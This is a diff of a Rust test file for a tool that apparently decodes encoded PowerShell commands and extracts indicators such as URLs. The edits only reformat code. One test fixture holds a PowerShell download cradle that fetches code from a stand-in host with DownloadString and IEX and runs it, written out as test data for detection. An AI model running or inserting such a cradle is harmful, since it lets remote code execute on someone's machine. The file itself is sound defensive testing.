@@ -113,8 +113,10 @@ fn encoded_commands_are_found_in_every_spelling() {
 
 #[test]
 fn indicators_and_signs_come_from_the_script() {
-    let script = "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://evil.example/a?b=1')); \
-                  iwr \"HTTPS://cdn.example/x.ps1\"; $y='http://evil.example/a?b=1'; $complexity = 1";
+    let script = "$c = New-Object Net.WebClient; \
+                  IEX ($c.DownloadString('http://evil.example/a?b=1')); \
+                  iwr \"HTTPS://cdn.example/x.ps1\"; \
+                  $y='http://evil.example/a?b=1'; $complexity = 1";
     let output = SHIPPED.output(&format!("powershell -enc {}", encoded(script)));
     let urls = json!(["http://evil.example/a?b=1", "HTTPS://cdn.example/x.ps1"]);
     assert_eq!(output["indicators"], urls);
@@ -166,13 +168,20 @@ fn halves_of_characters_become_replacement_characters() {
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig { cases: 128, failure_persistence: None, ..Default::default() })]
+    #![proptest_config(ProptestConfig {
+        cases: 128,
+        failure_persistence: None,
+        ..Default::default()
+    })]
 
     /// Quotes, backslashes, controls, dashes and base64 in any order: the host refuses an output
     /// that is not JSON or does not fit the schema.
     #[test]
     fn no_command_line_makes_the_output_invalid(
-        line in r#"([ \t\r\n"'\\/{}:,\u{0}-\u{1f}\u{7f}\u{2028}é🙂–-]|-e|-enc |[A-Za-z0-9+/=]{1,40}|\\u12){0,60}"#
+        line in concat!(
+            r#"([ \t\r\n"'\\/{}:,\u{0}-\u{1f}\u{7f}\u{2028}é🙂–-]|"#,
+            r"-e|-enc |[A-Za-z0-9+/=]{1,40}|\\u12){0,60}",
+        )
     ) {
         SHIPPED.output(&line);
     }
@@ -217,7 +226,8 @@ fn the_shipped_file_was_built_from_the_source_beside_it() {
 #[test]
 #[ignore = "needs a C compiler for wasm32, such as ziglang from PyPI"]
 fn a_fresh_build_behaves_like_the_shipped_file() {
-    let out = tempfile::tempdir().unwrap().keep().join("fresh.wasm");
+    let folder_out = tempfile::tempdir().unwrap();
+    let out = folder_out.path().join("fresh.wasm");
     let built = std::process::Command::new(folder().join("build"))
         .arg(&out)
         .status()
